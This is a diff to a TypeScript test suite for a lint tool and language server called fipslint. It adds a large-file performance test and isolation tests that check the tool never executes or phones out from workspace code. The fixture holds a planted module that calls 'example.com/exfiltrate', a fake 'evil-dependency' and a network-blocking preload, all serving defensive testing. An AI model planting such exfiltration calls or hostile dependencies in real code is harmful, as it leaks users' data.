@@ -1,5 +1,5 @@
 import * as assert from 'node:assert/strict';
-import { spawn, type ChildProcess } from 'node:child_process';
+import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
@@ -34,6 +34,7 @@ import {
   type WorkspaceEdit,
 } from 'vscode-languageserver-protocol/node';
 import { TextDocument } from 'vscode-languageserver-textdocument';
+import { denseFileText } from '../bench/generate';
 
 // The bundle that ships in the .vsix (npm test builds it first).
 const SERVER = path.join(__dirname, '..', '..', 'dist', 'server.js');
@@ -89,12 +90,13 @@ class TestClient {
     }
   }
 
-  async initialize(root: string, capabilities: ClientCapabilities): Promise<void> {
+  async initialize(root: string, capabilities: ClientCapabilities, initializationOptions?: unknown): Promise<void> {
     await this.connection.sendRequest(InitializeRequest.type, {
       processId: process.pid,
       rootUri: pathToFileURL(root).href,
       capabilities,
       workspaceFolders: [{ uri: pathToFileURL(root).href, name: 'ws' }],
+      initializationOptions,
     });
     await this.connection.sendNotification(InitializedNotification.type, {});
   }
@@ -312,6 +314,123 @@ describe('language server over stdio (fipslint.config.json)', () => {
     } finally {
       if (client.process.exitCode === null) client.process.kill();
       fs.rmSync(workspace, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('language server over stdio (a slow file)', () => {
+  it('analyses a large file off the main thread: a small file opened after it gets its diagnostics first', async () => {
+    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-slow-'));
+    const dense = denseFileText();
+    const bigText = Array.from({ length: 7 }, () => dense).join('\n');
+    assert.ok(bigText.length > 1_500_000 && bigText.length < 2 * 1024 * 1024);
+    const bigUri = pathToFileURL(path.join(workspace, 'generated.ts')).href;
+    const smallUri = pathToFileURL(path.join(workspace, 'small.ts')).href;
+    const client = new TestClient();
+    try {
+      await client.initialize(workspace, { workspace: { configuration: true } });
+      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri: bigUri, languageId: 'typescript', version: 1, text: bigText } });
+      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri: smallUri, languageId: 'typescript', version: 1, text: SOURCE } });
+      const big = await client.diagnostics((p) => p.uri === bigUri && p.diagnostics.length > 0, 'the large file, analysed on the worker');
+      const small = await client.diagnostics((p) => p.uri === smallUri, 'the small file');
+      assert.equal(small.diagnostics.length, 3);
+      assert.ok(big.diagnostics.length > 1000);
+      assert.ok(client.published.indexOf(small) < client.published.indexOf(big), 'the small file did not wait for the large one');
+      assert.equal(await client.stop(), 0);
+    } finally {
+      if (client.process.exitCode === null) client.process.kill();
+      fs.rmSync(workspace, { recursive: true, force: true });
+    }
+  });
+});
+
+/**
+ * A preload that makes every way out to the network throw and write down who tried, and a
+ * workspace whose code, dependencies and configuration would leave marker files if anything
+ * executed or required them.
+ */
+function hostileWorkspace(): { dir: string; env: NodeJS.ProcessEnv; attempts: () => string[]; ran: () => string[] } {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-isolation-'));
+  const markers = path.join(dir, '.markers');
+  fs.mkdirSync(markers);
+  const log = path.join(markers, 'network.log');
+  const preload = path.join(dir, 'no-network.cjs');
+  fs.writeFileSync(
+    preload,
+    [
+      "const fs = require('fs');",
+      `const log = ${JSON.stringify(log)};`,
+      "const refuse = (what) => function () { fs.appendFileSync(log, what + '\\n'); throw new Error('network access refused by the test: ' + what); };",
+      "const net = require('net'); net.Socket.prototype.connect = refuse('net.Socket.connect'); net.connect = net.createConnection = refuse('net.connect');",
+      "require('tls').connect = refuse('tls.connect');",
+      "const dns = require('dns'); dns.lookup = refuse('dns.lookup'); dns.resolve = refuse('dns.resolve'); dns.promises.lookup = refuse('dns.promises.lookup');",
+      "for (const m of ['http', 'https']) { const mod = require(m); mod.request = refuse(m + '.request'); mod.get = refuse(m + '.get'); }",
+      "require('dgram').createSocket = refuse('dgram.createSocket');",
+      "globalThis.fetch = refuse('fetch');",
+    ].join('\n'),
+  );
+  const marker = (name: string) => `require('fs').writeFileSync(${JSON.stringify(path.join(markers, name))}, 'ran');`;
+  fs.mkdirSync(path.join(dir, 'src'));
+  fs.writeFileSync(path.join(dir, 'src', 'settings.js'), `${marker('project-module')}\nrequire('https').get('https://example.com/exfiltrate');\nmodule.exports = { HASH: 'md5' };\n`);
+  fs.writeFileSync(path.join(dir, 'src', 'main.js'), "const { HASH } = require('./settings');\nconst evil = require('evil-dependency');\nrequire('crypto').createHash(HASH);\n");
+  fs.mkdirSync(path.join(dir, 'node_modules', 'evil-dependency'), { recursive: true });
+  fs.writeFileSync(path.join(dir, 'node_modules', 'evil-dependency', 'package.json'), JSON.stringify({ name: 'evil-dependency', main: 'index.js' }));
+  fs.writeFileSync(path.join(dir, 'node_modules', 'evil-dependency', 'index.js'), `${marker('node-modules')}\nmodule.exports = { HASH: 'sha256' };\n`);
+  fs.writeFileSync(path.join(dir, 'fipslint.config.json'), JSON.stringify({ rules: { 'hash-algorithm': 'error' } }));
+  fs.writeFileSync(path.join(dir, 'fipslint.config.js'), marker('config-js'));
+  const env = { ...process.env, NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --require ${preload}`.trim() };
+  return {
+    dir,
+    env,
+    attempts: () => (fs.existsSync(log) ? fs.readFileSync(log, 'utf8').split('\n').filter(Boolean) : []),
+    ran: () => fs.readdirSync(markers).filter((f) => f !== 'network.log'),
+  };
+}
+
+describe('nothing runs, nothing leaks', () => {
+  it('the CLI reads the code, its dependencies and its configuration without executing any of it, and opens no connection', () => {
+    const ws = hostileWorkspace();
+    try {
+      const cli = spawnSync(process.execPath, [path.join(__dirname, '..', '..', 'bin', 'fipslint.js'), '--format', 'json', '.'], { cwd: ws.dir, env: ws.env, encoding: 'utf8' });
+      assert.equal(cli.status, 1, cli.stderr);
+      const findings = JSON.parse(cli.stdout).files.flatMap((f: { file: string; findings: Array<{ ruleId: string; line: number }> }) => f.findings.map((x) => `${f.file}:${x.line} ${x.ruleId}`));
+      assert.ok(findings.includes('src/main.js:3 hash-algorithm'), `the constant was read from settings.js, not run: ${findings.join(', ')}`);
+      assert.deepEqual(ws.ran(), [], 'nothing executed');
+      assert.deepEqual(ws.attempts(), [], 'no network access');
+    } finally {
+      fs.rmSync(ws.dir, { recursive: true, force: true });
+    }
+  });
+
+  it('the language server does the same, and in Restricted Mode ignores the workspace configuration and refuses the scan', async () => {
+    const ws = hostileWorkspace();
+    fs.writeFileSync(path.join(ws.dir, 'fipslint.config.json'), JSON.stringify({ profile: 'cnsa-2.0' }));
+    const text = fs.readFileSync(path.join(ws.dir, 'src', 'main.js'), 'utf8') + "require('crypto').createHash('sha256');\n";
+    const uri = pathToFileURL(path.join(ws.dir, 'src', 'main.js')).href;
+    const codes = (p: PublishDiagnosticsParams) => p.diagnostics.map((d) => `${d.range.start.line + 1} ${d.code}`).join(',');
+    for (const trusted of [true, false]) {
+      const client = new TestClient(ws.env);
+      client.settings = { enable: true, profile: null, run: 'onType', rules: {} };
+      try {
+        await client.initialize(ws.dir, { workspace: { configuration: true, workspaceFolders: true } }, { workspaceTrusted: trusted });
+        client.connection.onRequest('workspace/workspaceFolders', () => [{ uri: pathToFileURL(ws.dir).href, name: 'ws' }]);
+        await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'javascript', version: 1, text } });
+        const published = await client.diagnostics((p) => p.uri === uri, 'diagnostics');
+        // Trusted: the file's cnsa-2.0 makes SHA-256 an error too. Restricted: the defaults.
+        assert.equal(codes(published), trusted ? '3 hash-algorithm,4 hash-algorithm' : '3 hash-algorithm');
+        const scan = (await client.connection.sendRequest(ExecuteCommandRequest.type, { command: 'fipslint.scanWorkspace', arguments: [] })) as { restricted?: boolean; files: number };
+        assert.equal(!!scan.restricted, !trusted);
+        if (!trusted) assert.ok(client.messages.some((m) => /workspace scan is off in Restricted Mode/.test(m)));
+        assert.equal(await client.stop(), 0);
+      } finally {
+        if (client.process.exitCode === null) client.process.kill();
+      }
+    }
+    try {
+      assert.deepEqual(ws.ran(), [], 'nothing executed');
+      assert.deepEqual(ws.attempts(), [], 'no network access');
+    } finally {
+      fs.rmSync(ws.dir, { recursive: true, force: true });
     }
   });
 });
